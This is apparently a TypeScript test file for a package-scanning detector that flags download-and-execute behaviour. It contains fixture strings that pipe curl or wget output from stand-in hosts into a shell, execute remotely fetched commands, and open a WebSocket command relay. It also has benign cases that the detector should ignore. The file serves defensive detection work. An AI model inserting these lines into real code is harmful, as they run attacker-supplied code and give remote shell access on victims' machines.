import { commanded, hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
import { downloadAndRun } from "./index.ts";

testDetector(downloadAndRun, {
  fires: {
    "wget into a shell": ["strong", hooked("wget -qO- https://collector.invalid/x | bash")],
    "a shell with a substitution": ["strong", hooked('bash -c "$(curl -fsSL https://collector.invalid/x)"')],
    "a runtime that is told an address": ["strong", hooked("deno run -A https://collector.invalid/mod.ts")],
    "a shell that is fed from a bare address, on request": [
      "strong",
      loaded(`exports.activate = () => require("child_process").exec("curl -s http://203.0.113.9/m | sh");`),
    ],
    "curl from a process": [
      "strong",
      installed(
        `require("child_process").execSync("curl -s https://collector.invalid/x | sh", { stdio: "inherit" });`,
      ),
    ],
    "a bare address": [
      "decisive",
      loaded(`require("child_process").exec("curl http://203.0.113.9/x | sh");`),
    ],
    "a command that was asked for": [
      "strong",
      installed(`fetch("https://collector.invalid/command").then((answer) => answer.text())
        .then((text) => require("child_process").exec(text, { windowsHide: true }));`),
    ],
    "orders from a socket, in a command of the package": [
      "strong",
      commanded(`const WebSocket = require("ws"), { execSync } = require("child_process");
        const socket = new WebSocket("wss://relay.collector.invalid/");
        socket.on("message", (order) => socket.send(execSync(String(order)).toString()));`),
    ],
  },
  silent: {
    "a file that is kept": hooked("curl -o tool.tgz https://downloads.example/tool.tgz"),
    "git in a command": commanded(
      `require("child_process").execSync("git clone https://github.com/acme/template");`,
    ),
  },
});
